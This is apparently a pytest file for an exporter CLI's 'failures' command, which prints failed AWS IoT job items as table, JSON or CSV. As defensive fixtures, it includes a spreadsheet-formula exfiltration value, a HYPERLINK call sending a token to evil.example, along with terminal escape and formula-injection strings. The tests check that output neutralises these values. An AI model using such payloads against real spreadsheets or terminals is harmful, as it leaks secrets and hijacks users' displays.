"""The command ``failures`` prints the failed items of an operation for people, programs and spreadsheets."""

import csv
import io
import json
import os
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from exporter.cli.failures_output import FORMULA_STARTS, csv_text, json_text, table_text
from exporter.collector.failures import Failures
from exporter.core.errors import ApiError, Reason
from exporter.core.model import CellKey, ItemCounts, Operation, Scope
from exporter.kinds.kind import FailedItem
from exporter.kinds.registry import KINDS
from tests.support.clocks import ManualClock
from tests.support.exporter_server import aws_environment, serve_simulated_aws
from tests.support.processes import run_exporter, usage_errors

SCENARIO = """
accounts: ["111122223333"]
operations:
  - kind: iot_job
    id: firmware
    region: eu-west-1
    items: 8
    failures:
      - {reason: "no space on /dev/sda{number}", items: 3}
      - {reason: '=HYPERLINK("http://evil.example?token=s3cret") é'}
    timeline: [{at: 0s, status: COMPLETED, done: 1.0, failed: 0.5}]
"""
KEY = CellKey("factory", "eu-west-1", "iot_job")
HOSTILE = ("\x1b[2J", "a\nb", "\u202eevil", "half \ud83d", "\ufeff=1+1", *(f"{start}1" for start in FORMULA_STARTS))


@dataclass(frozen=True)
class Done:
    status: int
    stdout: str
    errors: list[str]


def run(endpoint: str, *arguments: str) -> Done:
    with aws_environment(endpoint):
        done = run_exporter("failures", *arguments, environment=os.environ)
    return Done(done.returncode, done.stdout, done.stderr.splitlines())


@pytest.fixture(scope="module")
def endpoint() -> Iterator[str]:
    with serve_simulated_aws(SCENARIO, ManualClock()) as (url, _):
        yield url


def test_the_table_shows_the_groups_and_then_the_items(endpoint: str) -> None:
    done = run(endpoint, "--kind=iot_job", "--id=firmware")
    assert (done.status, done.errors) == (0, [])
    lines = done.stdout.splitlines()
    assert lines[0] == (
        "iot_job firmware in default eu-west-1 is COMPLETED. AWS counts 4 failed items. 4 failures listed."
    )
    assert lines[2].split() == ["COUNT", "REASON", "EXAMPLES"]
    examples = "firmware-00001, firmware-00002, firmware-00003"
    assert re.sub(" {2,}", "|", lines[3]) == f"3|reason: no space on <path>|{examples}"
    assert lines[6].split() == ["ITEM", "STATE", "ATTEMPT", "AT", "REASON"]
    assert len(lines) == 11
    assert "s3cret" not in done.stdout


def test_json_is_one_object(endpoint: str) -> None:
    done = run(endpoint, "--kind=iot_job", "--id=firmware", "--output=json", "--limit=3")
    content = json.loads(done.stdout)
    assert (done.status, done.errors, done.stdout.isascii()) == (0, [], True)
    assert list(content) == ["operation", "groups", "items", "complete", "omitted"]
    assert content["operation"] == {
        "kind": "iot_job",
        "id": "firmware",
        "account": "default",
        "aws_account_id": "111122223333",
        "aws_region": "eu-west-1",
        "status": "COMPLETED",
        "failed": 4,
        "possibly_failed": 0,
        "failed_executions": None,
    }
    assert [set(item) for item in content["items"]] == [{"item", "state", "reason", "at", "attempt"}] * 3
    assert [set(group) for group in content["groups"]] == [{"reason", "count", "examples"}] * 2
    assert (content["complete"], content["omitted"]) == (False, 1)


def test_csv_has_a_row_for_each_item_of_the_requested_state(endpoint: str) -> None:
    done = run(endpoint, "--kind=iot_job", "--id=firmware", "--output=csv", "--state=TIMED_OUT")
    (row,) = csv.DictReader(io.StringIO(done.stdout))
    assert (row["item"], row["state"], row["attempt"]) == ("firmware-00004", "TIMED_OUT", "1")
    assert row["reason"].startswith('reason: =HYPERLINK("http://evil.example?[redacted]')


def test_an_unknown_operation_ends_with_1(endpoint: str) -> None:
    done = run(endpoint, "--kind=iot_job", "--id=unknown")
    assert (done.status, done.stdout) == (1, "")
    cause = "AWS returned ResourceNotFoundException (HTTP 404) for DescribeJob"
    assert done.errors == [f"default eu-west-1 iot_job unknown: DescribeJob: not_found: {cause}"]


@pytest.mark.parametrize(
    ("api", "shown"), [("DescribeJob", False), ("ListJobExecutionsForJob", True), ("DescribeJobExecution", True)]
)
def test_a_refused_call_ends_with_3_and_names_the_permission(api: str, shown: bool) -> None:
    fault = f"faults: [{{api: {api}, error: AccessDeniedException, status: 403}}]\n"
    with serve_simulated_aws(SCENARIO + fault, ManualClock()) as (url, _):
        done = run(url, "--kind=iot_job", "--id=firmware")
    assert (done.status, bool(done.stdout)) == (3, shown)
    cause = f"access_denied: AWS returned AccessDeniedException (HTTP 403) for {api}"
    cure = f"needs the permission iot:{api}, see show iam-policy --failures"
    assert done.errors == [f"default eu-west-1 iot_job firmware: {api}: {cause}; {cure}"]


@pytest.mark.parametrize(
    ("flags", "problems"),
    [
        ((), ["--kind: required"]),
        (("--kind=iot_job",), ["--id: required"]),
        (
            ("--kind=thing", "--id=a", "--limit=0", "--output=xml"),
            [
                f"--kind: expected one of {', '.join(kind.name for kind in KINDS if kind.failures)}",
                "--limit: expected a whole number from 1 to 10000",
                "--output: expected one of table, json, csv",
            ],
        ),
        (("--kind=iot_job", "--id=a/b"), ["--id: expected an id that matches [a-zA-Z0-9_-]+"]),
        (
            ("--kind=iot_job", "--id=a", "--state=Bogus"),
            ["--state: expected one of FAILED, TIMED_OUT, REJECTED, REMOVED, CANCELED"],
        ),
    ],
)
def test_invalid_flags_end_with_2(flags: tuple[str, ...], problems: list[str]) -> None:
    assert usage_errors("failures", *flags) == problems


ONE_FAILED = ItemCounts(succeeded=0, failed=1)


def with_items(*items: FailedItem, counts: ItemCounts = ONE_FAILED) -> Failures:
    scope = Scope("factory", "111122223333", "eu-west-1")
    return Failures(Operation(id="firmware", status="COMPLETED"), scope, counts, items, 0)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_controls_a_terminal_or_becomes_a_formula(text: str) -> None:
    failures = with_items(FailedItem(text, text, text))
    for line in table_text(KEY, failures).splitlines():
        assert line.isprintable()
    assert json.loads(json_text(KEY, failures))["items"][0]["reason"] == text
    assert json_text(KEY, failures).isascii()
    _, row = csv.reader(io.StringIO(csv_text(KEY, failures)))
    for cell in row[:3]:
        assert cell.isprintable()
        assert not cell.lstrip().startswith(FORMULA_STARTS)


def test_with_retries_both_counts_are_shown() -> None:
    items = [FailedItem("gate", "FAILED", attempt=number) for number in (1, 2)]
    text = table_text(KEY, with_items(*items, counts=ItemCounts(0, 1, possibly_failed=3)))
    assert "AWS counts 1 to 4 failed items. 2 failures listed of 1 item." in text
    counts = ItemCounts(0, 1, possibly_failed=3, failed_executions=9)
    text = table_text(KEY, with_items(*items, counts=counts))
    assert "AWS counts 9 failed executions. By its counts, 1 to 4 items failed finally. 2 failures listed" in text


@pytest.mark.parametrize("reason", ["no type;=1+1", "no type; =1+1", 'no type;"=1+1"', "a;b;@SUM(A1)"])
def test_no_part_after_a_semicolon_is_a_formula(reason: str) -> None:
    _, row = csv.reader(io.StringIO(csv_text(KEY, with_items(FailedItem("gate", "FAILED", reason)))))
    for part in row[2].split(";"):
        assert not part.lstrip(' "').startswith(FORMULA_STARTS)
    assert row[2].replace("'", "") == reason


def test_a_result_with_a_problem_is_not_complete() -> None:
    problem = ApiError(Reason.THROTTLED)
    failures = Failures(Operation(id="a", status="b"), Scope("c", "d", "e"), ItemCounts(0, 0), (), 0, (problem,))
    assert json.loads(json_text(KEY, failures))["complete"] is False


def test_the_failures_of_an_operation_in_an_opt_in_region_are_found_with_all_regions(tmp_path: Path) -> None:
    config = tmp_path / "config.yaml"
    config.write_text("accounts: [{account_id: '111122223333', regions: all}]\n")
    scenario = SCENARIO.replace("eu-west-1", "me-central-1") + "opt_in_regions: [{region: me-central-1}]\n"
    flags = ("--kind=iot_job", "--id=firmware", "--region=me-central-1", "--output=json")
    with serve_simulated_aws(scenario, ManualClock()) as (url, _):
        done = run(url, f"--config.file={config}", *flags)
    assert (done.status, done.errors) == (0, [])
    assert len(json.loads(done.stdout)["items"]) == 4
